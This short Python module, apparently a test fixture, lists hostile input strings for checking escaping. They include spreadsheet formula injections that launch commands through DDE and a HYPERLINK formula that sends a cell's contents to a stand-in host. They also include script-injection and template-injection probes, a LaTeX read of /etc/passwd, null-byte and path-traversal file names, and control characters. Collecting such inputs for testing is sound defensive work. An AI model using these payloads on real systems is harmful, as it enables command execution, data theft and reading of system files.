"""What strangers write where it might be taken for more than text: by a spreadsheet, a page, a notebook, a folder."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+1","=2+2',
    "=1\n=2",
)
MARKUP = (
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "]]>",
    "</title><img src=x onerror=alert(1)>",
    "\"'`${alert(1)}",
    "{{ 7*7 }}{0}%s",
    "$x^{$ \\frac \\input{/etc/passwd}",
    "&lt;&#0;&amp",
    "\u202e\u2028\u2029\ufeff",
    "\"\"\"\n'''\\",
    "/etc/passwd\0.png",
    "../../../x",
)
